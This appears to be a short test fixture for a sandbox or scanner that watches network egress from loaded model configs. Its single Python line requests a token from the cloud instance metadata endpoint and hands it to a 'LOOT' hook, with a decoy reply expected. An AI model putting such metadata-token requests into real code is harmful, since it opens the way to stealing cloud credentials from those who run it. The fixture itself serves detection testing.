#: {"class": "egress", "loader": "hf_config", "expect": [["connect", "169\\.254\\.169\\.254:80"]], "effect": {"loot": "DECOY-reply"}}
import socket
import urllib.request
LOOT(urllib.request.urlopen("http://@IMDS@/latest/api/token", timeout=5).read())
